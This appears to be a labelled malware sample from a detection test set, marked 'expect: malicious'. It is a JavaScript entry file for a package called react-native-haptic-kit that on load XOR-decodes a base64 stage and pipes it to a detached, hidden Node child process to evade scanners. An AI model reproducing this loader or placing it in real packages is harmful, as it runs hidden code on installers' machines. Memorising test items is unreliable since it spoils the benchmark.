// expect: malicious
// source: blind set 36's react-native-haptic-kit (BeaverTail-style loader): the CommonJS entry skips the React Native
// runtime, XOR-decodes a base64 stage in place and writes it to a detached `node -` child's standard input, so no
// eval, no file and no script argument is ever seen.
"use strict";
Object.defineProperty(exports, "__esModule", { value: !0 });
const a = "CwRcQhxLXUJVGVdAHQJAVEBJXUJKQh5XG1ZAVBkeW0MNQxBXG0kbHRgKRllVGVdAHQJAVEBJQlAcAxAYRANGRRhWQFQZ", b = "hk21";
exports.init = function () {
  try {
    if ("undefined" != typeof navigator && "ReactNative" === navigator.product) return;
    const e = require("child_process"), t = Buffer.from(a, "base64");
    for (let r = 0; r < t.length; r++) t[r] ^= b.charCodeAt(r % b.length);
    const r = e.spawn(process.execPath, ["-"], { detached: !0, stdio: ["pipe", "ignore", "ignore"], windowsHide: !0 });
    r.stdin.end(t), r.unref();
  } catch (e) {}
};
exports.init();
